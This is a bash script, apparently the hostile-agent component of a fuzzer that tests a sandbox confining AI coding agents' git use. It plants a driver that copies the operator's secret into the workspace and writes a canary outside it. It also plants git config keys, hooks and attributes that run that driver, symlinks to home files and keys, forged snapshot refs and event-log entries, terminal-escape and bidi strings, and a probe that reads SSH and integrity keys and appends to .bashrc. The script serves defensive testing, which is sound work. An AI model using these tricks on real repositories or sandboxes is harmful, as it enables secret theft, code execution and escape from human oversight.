#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The hostile agent of the hostile-workspace fuzzer (docs/fuzzing.md): the
# command of the `hx` profile, run by agentic-git inside its cage, in the
# workspace. Its prompt is "<mode> <scene file>":
#
#   plant     a session: leave the scene's plants behind, commit, leave
#             unsaved work, exit
#   dispatch  a dispatch target: the same, plus the scene's payload
#             commits, then print the verdict
#   probe     the next session's launch: try to read the operator's
#             secret and the fleet key, write outside; copy what it read
#             into the workspace
#   strings   (the checker's, outside any cage) print the scene's
#             hostile strings, each NUL-terminated
#
# Every planted program is one driver, .git/hx-drv TOKEN: it appends its
# token to a canary file outside the workspace and copies the operator's
# secret into the workspace. Inside a cage neither can succeed; the
# checker (check.bash) flags either when seen. The scene's `fact NAME
# VALUE` lines (ops.bash writes them) give the absolute paths of the world.
set -u
export LC_ALL=C
mode=${1%% *}
scene=${1#* }
[ -r "$scene" ] || { echo "plant: no scene '$scene'" >&2; exit 1; }
declare -A F
while read -r d name value; do
	[ "$d" = fact ] && F[$name]=$value
done <"$scene"
TOP=$PWD
G=$TOP/.git
RG=${AGENTIC_GIT_REAL_GIT:-/usr/bin/git}
[ -x "$RG" ] || RG=/usr/lib/git-core/git
CACHEDIR=$(dirname "${AGENTIC_GIT_EVENTS_SPOOL:-$TOP/.git/x}")
NONCE=${F[nonce]}
D=$G/hx-drv
export GIT_CONFIG_NOSYSTEM=1

# g ARGS…: real git with no hooks (the agent may call it directly)
g() {
	"$RG" -c core.hooksPath=/dev/null -c core.fsmonitor= -c user.name=hx -c user.email=hx@example.com "$@"
}

say() { printf 'PLANT %s\n' "$*"; }

driver() {
	cat >"$D" <<-EOF
	#!/bin/sh
	# hostile driver: whoever runs this honoured a plant (token \$1)
	echo "\$1 uid=\$(id -u) pid=\$\$" >>"${F[canary]}/ran-\$1" 2>/dev/null
	cat "${F[secret]}" >"$TOP/.hx-stolen-\$1" 2>/dev/null
	exec cat
	EOF
	chmod +x "$D"
}

# hostile KIND: a string an agent controls, with the nonce in it
hostile() {
	local s="HXN$NONCE"
	case $1 in
	esc) s+=$'\e[2J\e[H\e]0;pwned\a' ;;
	c1) s+=$'\xc2\x9b31m\xc2\x9d0;t\xc2\x9c' ;;
	bidi) s+=$'\xe2\x80\xaetxt.exe' ;;
	nl) s+=$'\nforged line' ;;
	cr) s+=$'\rOVERWRITTEN' ;;
	bel) s+=$'\a\b\x7f' ;;
	long) s+=$(printf 'L%.0s' {1..240}) ;;
	esac
	printf '%s' "$s"
}

# repo_of WHERE: R is the work tree, RGD its git dir (made on first use)
repo_of() {
	case $1 in
	top) R=$TOP RGD=$G ;;
	sub) R=$TOP/sub RGD=$TOP/sub/.git ;;
	subabs) R=$TOP/mods RGD=$G/modules/mods ;;
	subfile) R=$TOP/far RGD=$CACHEDIR/far.git ;;
	nested) R=$TOP/nest RGD=$TOP/nest/.git ;;
	esac
	[ -e "$RGD/HEAD" ] && return 0
	mkdir -p "$R"
	case $1 in
	sub | nested) g init -q "$R" ;;
	subabs | subfile)
		g init -q --separate-git-dir="$RGD" "$R"
		[ "$1" = subabs ] && echo "gitdir: ../.git/modules/mods" >"$R/.git"
		;;
	esac
	echo "data of $1" >"$R/f.txt"
	echo "more of $1" >"$R/g.txt"
	g -C "$R" add -A && g -C "$R" commit -q -m "$1 start"
	# a gitlink in the top repository: git status enters it
	case $1 in sub | subabs | subfile) g add "$(basename "$R")" 2>/dev/null ;; esac
}

# attr_line VALUE
attr_line() {
	case $1 in
	filter | diff | merge) echo "* $1=hx" ;;
	*) echo "* $1" ;;
	esac
}

# cfg_key WHERE KEY: the key in WHERE's config names the driver
cfg_key() {
	local where=$1 key=$2 tok cf
	repo_of "$where"
	tok="cfg-$where-$key"
	cf=$RGD/config
	case $key in
	include | includeif)
		cf=$RGD/hx-include
		if [ "$key" = include ]; then
			g config -f "$RGD/config" include.path "$cf"
		else
			g config -f "$RGD/config" "includeIf.gitdir:/.path" "$cf"
		fi
		key=fsmonitor
		g config -f "$cf" filter.hx.clean "$D $tok-filter"
		g config -f "$cf" diff.hx.textconv "$D $tok-textconv"
		g config -f "$cf" diff.external "$D $tok-external"
		;;
	esac
	case $key in
	fsmonitor) g config -f "$cf" core.fsmonitor "$D $tok" ;;
	hookspath)
		mkdir -p "$RGD/hx-hooks"
		local h
		for h in pre-commit prepare-commit-msg commit-msg post-commit post-checkout \
			post-merge pre-push post-rewrite reference-transaction post-index-change \
			pre-auto-gc fsmonitor-watchman push-to-checkout; do
			printf '#!/bin/sh\nexec "%s" "%s-%s"\n' "$D" "$tok" "$h" >"$RGD/hx-hooks/$h"
			chmod +x "$RGD/hx-hooks/$h"
		done
		g config -f "$cf" core.hooksPath "$RGD/hx-hooks"
		;;
	filter)
		g config -f "$cf" filter.hx.clean "$D $tok-clean"
		g config -f "$cf" filter.hx.smudge "$D $tok-smudge"
		;;
	filter-process) g config -f "$cf" filter.hx.process "$D $tok" ;;
	textconv) g config -f "$cf" diff.hx.textconv "$D $tok" ;;
	external) g config -f "$cf" diff.external "$D $tok" ;;
	pager)
		g config -f "$cf" core.pager "$D $tok"
		g config -f "$cf" pager.status "$D $tok-status"
		;;
	sshcommand)
		g config -f "$cf" core.sshCommand "$D $tok"
		g config -f "$cf" remote.origin.url "ssh://hx.invalid/repo"
		;;
	packobjectshook) g config -f "$cf" uploadpack.packObjectsHook "$D $tok" ;;
	gpg | showsig)
		g config -f "$cf" gpg.program "$D $tok"
		g config -f "$cf" gpg.ssh.program "$D $tok-ssh"
		g config -f "$cf" log.showSignature true
		g config -f "$cf" commit.gpgSign true
		;;
	editor)
		g config -f "$cf" core.editor "$D $tok"
		g config -f "$cf" sequence.editor "$D $tok-seq"
		;;
	askpass) g config -f "$cf" core.askPass "$D $tok" ;;
	credential) g config -f "$cf" credential.helper "!$D $tok" ;;
	merge) g config -f "$cf" merge.hx.driver "$D $tok %O %A %B" ;;
	alternaterefs) g config -f "$cf" core.alternateRefsCommand "$D $tok" ;;
	# not a program: every file counts as binary for git diff
	bigfile) g config -f "$cf" core.bigFileThreshold 1 ;;
	esac
	# whatever the key, the attributes that name a driver, git's reasons
	# to enter submodules, and files git must hash again
	g config -f "$RGD/config" filter.hx.required false
	mkdir -p "$RGD/info"
	printf '* filter=hx diff=hx merge=hx\n' >>"$RGD/info/attributes"
	[ "$where" = top ] || {
		g config -f "$G/config" status.submoduleSummary true
		g config -f "$G/config" diff.submodule log
	}
	DIRTY+=("$R")
}

# target NAME: the absolute path a link or core.worktree names
target() {
	case $1 in
	home) echo "${F[home]}" ;;
	wt2adm) echo "${F[repo]}/.git/worktrees/b" ;;
	private) echo "${F[home]}/private/.git" ;;
	homefile) echo "${F[home]}/.bashrc" ;;
	aghome) echo "${F[aghome]}" ;;
	key) echo "${F[key]}" ;;
	wt2) echo "${F[wt2]}" ;;
	wt2file) echo "${F[wt2]}/README.md" ;;
	repo) echo "${F[repo]}" ;;
	repogit) echo "${F[repo]}/.git" ;;
	repoheads) echo "${F[repo]}/.git/refs/heads" ;;
	repoinfo) echo "${F[repo]}/.git/info" ;;
	secret) echo "${F[secret]}" ;;
	canary) echo "${F[canary]}" ;;
	esac
}

# now_name SEQ OP: REPLY is a snapshot-like ref name of this second,
# newer than any real one; every call gets a sequence number of its own,
# so two plants of one second never share a name
NAMES=0
now_name() {
	NAMES=$((NAMES + 1))
	REPLY=$(date -u +%Y%m%dT%H%M%SZ)-$(($1 * 100 + NAMES))-$2
}

# forged_tree: a tree of the agent's files named as ag2's and the
# operator's are
forged_tree() {
	local f
	for f in README.md b.txt b-new.txt hx-forged.txt .bashrc; do
		printf '100644 blob %s\t%s\n' "$(printf 'HOSTILE %s forged %s\n' "$NONCE" "$f" |
			g hash-object -w --stdin)" "$f"
	done | g mktree
}

# forge FIELD: a snapshot ref in our own namespace whose message lies
# (or, through-link*, whose tree goes through a link the workspace has)
forge() {
	local field=$1 agent=ag1 wt=$TOP q="" head tree msg c name
	head=$(g rev-parse HEAD)
	case $field in
	worktree-wt2) wt=${F[wt2]} ;;
	worktree-repo) wt=${F[repo]} ;;
	agent-ag2) agent=ag2 wt=${F[wt2]} ;;
	quarantine-ag2) wt=${F[wt2]} q="../../ag2/x/../../../.." ;;
	head-other) wt=${F[wt2]} head=${F[base]} ;;
	forged-path) wt=$TOP$(hostile "$2") ;;
	esac
	tree=$(forged_tree)
	case $field in
	through-link | through-link-home)
		# an honest snapshot of this workspace whose tree has files
		# below a directory the workspace now has as a link outside
		local sub
		sub=$(forged_tree)
		tree=$( (g ls-tree "$tree"; printf '040000 tree %s\thx-dir\n' "$sub") | g mktree)
		rm -rf "$TOP/hx-dir"
		if [ "$field" = through-link ]; then
			ln -s "${F[wt2]}" "$TOP/hx-dir"
		else
			ln -s "${F[home]}" "$TOP/hx-dir"
		fi
		;;
	esac
	msg="reset snapshot"$'\n\n'"Agentic-Snapshot-Op: reset"$'\n'"Agentic-Snapshot-Agent: $agent"$'\n'"Agentic-Snapshot-Worktree: $wt"$'\n'"Agentic-Snapshot-Head: $head"
	[ -n "$q" ] && msg+=$'\n'"Agentic-Snapshot-Quarantine: $q"
	c=$(g commit-tree "$tree" -p "$head" -m "$msg")
	now_name 7 reset
	name=$REPLY
	mkdir -p "$G/refs/agentic-git/snapshots/ag1"
	echo "$c" >"$G/refs/agentic-git/snapshots/ag1/$name"
	say "forge $field $name"
}

# setref REF ID
setref() {
	mkdir -p "$(dirname "$G/$1")" && echo "$2" >"$G/$1"
}

plant_ref() {
	local head
	head=$(g rev-parse HEAD)
	case $1 in
	main) setref refs/heads/main "$head" ;;
	feat-b) setref refs/heads/feat/b "$head" ;;
	tag) setref refs/tags/v1 "$head" ;;
	snap-ag2) now_name 0 reset && setref "refs/agentic-git/snapshots/ag2/$REPLY" "$head" ;;
	session-ag2) setref refs/agentic-git/sessions/ag2/feat/b "$head" ;;
	origin-feat-a) setref refs/remotes/origin/feat/a "$head" ;;
	notes)
		local n
		n=$(hostile esc | g hash-object -w --stdin)
		setref refs/notes/commits "$(g commit-tree "$(printf '100644 blob %s\t%s\n' "$n" "$head" | g mktree)" -m notes)"
		;;
	head-main) setref refs/heads/main "$head" && echo "ref: refs/heads/main" >"$G/HEAD" ;;
	packed-main) printf '# pack-refs with: peeled fully-peeled sorted\n%s refs/heads/main\n' "$head" >>"$G/packed-refs" ;;
	replace-main) setref "refs/replace/${F[base]}" "$head" ;;
	esac
}

plant_link() {
	local place=$1 name=$2 t path
	t=$(target "$3")
	case $place in
	ws)
		case $name in
		file) ln -sfn "$t" "$TOP/hx-link" ;;
		dir) ln -sfn "$t" "$TOP/hx-dir" ;;
		marker) rm -f "$TOP/.agend-managed" && ln -sfn "$t" "$TOP/.agend-managed" ;;
		esac
		;;
	gitdir)
		case $name in
		logs-HEAD) path=$G/logs/HEAD ;;
		logs-branch) path=$G/logs/refs/heads/feat/a ;;
		refs-snap) path=$G/refs/agentic-git ;;
		# where the operator's restore saves the state it overwrites
		snap-noagent) path=$G/refs/agentic-git/snapshots/noagent ;;
		snapref) now_name 5 link && path=$G/refs/agentic-git/snapshots/ag1/$REPLY ;;
		alternates) path=$G/objects/info/alternates ;;
		objects-pack) path=$G/objects/pack ;;
		*) path=$G/$name ;;
		esac
		mkdir -p "$(dirname "$path")" && rm -rf "$path" && ln -sfn "$t" "$path"
		;;
	cache)
		case $name in
		spool) path=${AGENTIC_GIT_EVENTS_SPOOL:-$CACHEDIR/events.spool.jsonl} ;;
		*) path=$CACHEDIR/$name ;;
		esac
		rm -rf "$path" && ln -sfn "$t" "$path"
		;;
	esac
}

# plant_quarantine MODE TARGET: the cage's own quarantine (bound in,
# named by AGENTIC_GIT_QUARANTINE) left pointing elsewhere: the agent's
# directory in it, a real snapshot's quarantine (an ignored file a clean
# through the shim moved there), or a file in that quarantine
plant_quarantine() {
	local q=${AGENTIC_GIT_QUARANTINE:-} t d
	[ -n "$q" ] && [ -d "$q" ] || return 0
	t=$(target "$2")
	case $1 in
	agent) { [ ! -e "$q/ag1" ] || mv "$q/ag1" "$q/hx-old"; } && ln -sfn "$t" "$q/ag1" ;;
	snap | content)
		mkdir -p "$TOP/hx-q" && echo "ignored $NONCE" >"$TOP/hx-q/ign.txt"
		mkdir -p "$G/info" && echo "/hx-q/" >>"$G/info/exclude"
		git clean -fdxq -- hx-q >/dev/null 2>&1
		d=$(ls -dt "$q"/ag1/*/ 2>/dev/null | head -1)
		d=${d%/}
		[ -n "$d" ] || return 0
		if [ "$1" = snap ]; then
			rm -rf "$d" && ln -sfn "$t" "$d"
		else
			rm -f "$d/hx-q/ign.txt" && ln -sfn "$t" "$d/hx-q/ign.txt"
		fi
		;;
	esac
}

plant_name() {
	local where=$1 s
	s=$(hostile "$2")
	case $where in
	branch) setref "refs/heads/hx-$s" "$(g rev-parse HEAD)" ;;
	snapref) now_name 3 "$s" && setref "refs/agentic-git/snapshots/ag1/$REPLY" "$(g rev-parse HEAD)" ;;
	file) ;; # phase 1
	subject) ;;
	argv)
		# through the shim, as an agent's tool call would: recorded
		git checkout "$s" >/dev/null 2>&1
		git -c "core.hx$s=1" status >/dev/null 2>&1
		git "hx$s" >/dev/null 2>&1
		;;
	spool)
		local j
		j=$(json_str "$s")
		printf '{"event":%s,"timestamp":"%s","agent":%s,"argv":[%s],"reason":%s,"worktree":%s,"disposition":"deny","subcommand":%s}\n' \
			"$j" "$(date -u +%Y-%m-%dT%H:%M:%SZ)" "$j" "$j" "$j" "$j" "$j" >>"${AGENTIC_GIT_EVENTS_SPOOL:-/dev/null}"
		printf '{"event":"deny","timestamp":"%s","argv":["git",%s],"reason":%s,"branch":%s}\n' \
			"$(date -u +%Y-%m-%dT%H:%M:%SZ)" "$j" "$j" "$j" >>"${AGENTIC_GIT_EVENTS_SPOOL:-/dev/null}"
		;;
	forged-path) forge forged-path "$2" ;;
	esac
}

# json_str S: S as a JSON string, control characters as \u escapes
json_str() {
	local s=$1 out='"' c i
	for ((i = 0; i < ${#s}; i++)); do
		c=${s:i:1}
		case $c in
		'"') out+='\"' ;;
		\\) out+="\\\\" ;;
		[$'\x01'-$'\x1f'] | $'\x7f') out+=$(printf '\\u%04x' "'$c") ;;
		*) out+=$c ;;
		esac
	done
	printf '%s"' "$out"
}

# Phase 1: what goes into the commit
phase1() {
	local kind a1 a2 s
	while read -r d kind a1 a2 _; do
		[ "$d" = plant ] || continue
		case $kind in
		cfg | hook) case $a1 in top) ;; *) repo_of "$a1" ;; esac ;;
		attr)
			case $a1 in
			gitattributes) attr_line "$a2" >>"$TOP/.gitattributes" ;;
			sub) repo_of sub && attr_line "$a2" >>"$TOP/sub/.gitattributes" &&
				g -C "$TOP/sub" add -A && g -C "$TOP/sub" commit -q -m attrs && g add sub ;;
			esac
			;;
		name)
			s=$(hostile "$a2")
			case $a1 in
			file)
				printf 'named by the agent\n' >"$TOP/hx-$s" 2>/dev/null ||
					printf 'named by the agent\n' >"$TOP/hx-${s//\//_}"
				printf 'untracked\n' >"$TOP/hx-u-$s" 2>/dev/null
				;;
			subject) SUBJECT=$s ;;
			esac
			;;
		esac
	done <"$scene"
}

# Phase 2: the git dir, config, refs, links, spool
phase2() {
	local kind a1 a2 a3 head
	while read -r d kind a1 a2 a3 _; do
		[ "$d" = plant ] || continue
		case $kind in
		cfg) cfg_key "$a1" "$a2" ;;
		hook)
			repo_of "$a1"
			mkdir -p "$RGD/hooks"
			for h in pre-commit post-commit post-checkout post-merge reference-transaction \
				post-index-change pre-push post-rewrite fsmonitor-watchman; do
				printf '#!/bin/sh\nexec "%s" "hook-%s-%s"\n' "$D" "$a1" "$h" >"$RGD/hooks/$h"
				chmod +x "$RGD/hooks/$h"
			done
			;;
		attr)
			case $a1 in
			info) mkdir -p "$G/info" && attr_line "$a2" >>"$G/info/attributes" ;;
			attrfile) attr_line "$a2" >"$G/hx-attributes" && g config -f "$G/config" core.attributesFile "$G/hx-attributes" ;;
			esac
			;;
		worktree)
			repo_of "$a1"
			g config -f "$RGD/config" core.worktree "$(target "$a2")"
			;;
		# the history behind the last commit but one (the payload's
		# merge, for dispatch) is cut off
		shallow) { g rev-parse -q --verify HEAD~2 || g rev-parse HEAD; } >>"$G/shallow" ;;
		grafts) mkdir -p "$G/info" && { g rev-parse -q --verify HEAD~2 || g rev-parse HEAD; } >>"$G/info/grafts" ;;
		replace)
			head=$(g rev-parse HEAD)
			if g rev-parse -q --verify HEAD~2 >/dev/null; then
				setref "refs/replace/$(g rev-parse HEAD~1)" \
					"$(g commit-tree "HEAD~2^{tree}" -p HEAD~2 -m "replaced")"
			fi
			;;
		alternates)
			local alt=$G/objects/info/alternates t
			t=$(target "$a2")/.git/objects
			[ "$a2" = private ] && t=${F[home]}/private/.git/objects
			if [ "$a1" = replace ]; then echo "$t" >"$alt"; else echo "$t" >>"$alt"; fi
			;;
		secretref)
			local tr c
			tr=$( (g ls-tree HEAD; printf '100644 blob %s\tleak\n' "${F[secretblob]}") | g mktree --missing)
			c=$(g commit-tree "$tr" -p HEAD -m "carry a blob we cannot read")
			g update-ref "refs/heads/$(g symbolic-ref --short HEAD)" "$c"
			;;
		ref) plant_ref "$a1" ;;
		forge) forge "$a1" ;;
		marker)
			# the session marker names another agent, or carries a
			# hostile string
			case $a1 in
			ag2) printf 'agent=ag2\nleased_at=now\n' >"$TOP/.agend-managed" ;;
			*) printf 'agent=ag1%s\nleased_at=%s\n' "$(hostile "$a1")" "$(hostile "$a1")" >"$TOP/.agend-managed" ;;
			esac
			;;
		gitfile)
			# a gitlink whose .git file names a git dir outside the
			# workspace: git status enters it
			mkdir -p "$TOP/far2" && echo "gitdir: $(target "$a1")" >"$TOP/far2/.git"
			g update-index --add --cacheinfo "160000,$(g rev-parse HEAD),far2" 2>/dev/null
			g commit -q -m "gitlink far2" >/dev/null 2>&1
			;;
		link) plant_link "$a1" "$a2" "$a3" ;;
		quarantine) plant_quarantine "$a1" "$a2" ;;
		name) plant_name "$a1" "$a2" ;;
		esac
		say "$kind $a1 $a2 $a3"
	done <"$scene"
}

# payload KIND: the dispatch agent's commits. trust-root: P adds
# fleet.yaml, Q removes it, X merges Q with the head it started from (so
# the branch still has a merge base with the base): the file is in the
# pushed history, never in a tip. conflict: markers in CHANGELOG. Then an
# ordinary change on top.
payload() {
	local h0 q x
	h0=$(g rev-parse HEAD)
	case $1 in
	trust-root)
		printf 'agents: {}\n' >"$TOP/fleet.yaml"
		g add fleet.yaml && g commit -q -m "add a trust root"
		g rm -q fleet.yaml && g commit -q -m "and take it out again"
		q=$(g rev-parse HEAD)
		x=$(g commit-tree "$q^{tree}" -p "$q" -p "$h0" -m "merge")
		g update-ref "refs/heads/$(g symbolic-ref --short HEAD)" "$x"
		;;
	conflict)
		printf '<<<<<<< HEAD\nline a\n=======\nline b\n>>>>>>> theirs\n' >>"$TOP/CHANGELOG"
		g add CHANGELOG && g commit -q -m "leave conflict markers"
		;;
	esac
	echo "ordinary $NONCE" >>"$TOP/d.txt"
	g add d.txt && g commit -q -m "ordinary change"
}

probe() {
	local h=${F[home]} t
	# read what the cage must hide; copy it where the checker looks
	cat "${F[secret]}" >"$TOP/.hx-probe-secret" 2>/dev/null
	cat "${F[key]}" >"$TOP/.hx-probe-key" 2>/dev/null
	cat "$HOME/.ssh/id_hostile" >"$TOP/.hx-probe-home-secret" 2>/dev/null
	cat "$HOME/.config-integrity-key" >"$TOP/.hx-probe-home-key" 2>/dev/null
	cat "${TMPDIR:-/tmp}/.config-integrity-key" >"$TOP/.hx-probe-tmp-key" 2>/dev/null
	# write where the cage must not
	for t in "$h/.hx-probe" "${F[canary]}/probe" "${F[aghome]}/.hx-probe" \
		"${F[wt2]}/.hx-probe" "$HOME/.hx-probe-home" "${TMPDIR:-/tmp}/.hx-probe-tmp"; do
		echo "HOSTILE $NONCE probe" >"$t" 2>/dev/null
	done
	echo "HOSTILE $NONCE" >>"$h/.bashrc" 2>/dev/null
	say "probe done"
}

DIRTY=()
SUBJECT="agent work $NONCE"
case $mode in
plant | dispatch)
	driver
	echo "work $NONCE" >>"$TOP/work.txt"
	phase1
	g add -A >/dev/null 2>&1
	g commit -q -m "$SUBJECT" >/dev/null 2>&1
	[ "$mode" = dispatch ] && payload "${F[payload]}"
	# a real snapshot of the agent's own, through the shim
	echo "lost $NONCE" >>"$TOP/work.txt"
	git checkout -- work.txt >/dev/null 2>&1
	phase2
	# unsaved work, and files git must hash again (their stat changed)
	echo "unsaved $NONCE" >>"$TOP/work.txt"
	echo "untracked $NONCE" >"$TOP/hx-untracked.txt"
	for r in "${DIRTY[@]}"; do
		touch -d '2001-01-01 00:00:00' "$r"/f.txt "$r"/g.txt "$r"/README.md 2>/dev/null
	done
	if [ "$mode" = dispatch ]; then
		v="done"
		grep -q '^plant name verdict' "$scene" && v=$(hostile "$(sed -n 's/^plant name verdict //p' "$scene" | head -1)")
		echo "RESOLVED: $v"
	fi
	;;
probe) probe ;;
strings)
	# for the checker (run outside, never in a workspace): the agent's
	# strings, NUL-terminated
	sed -n 's/^plant name [^ ]* \([a-z0-9]*\).*/\1/p' "$scene" | sort -u |
		while read -r k; do hostile "$k"; printf '\0'; done
	;;
*) echo "plant: unknown mode '$mode'" >&2; exit 1 ;;
esac
exit 0
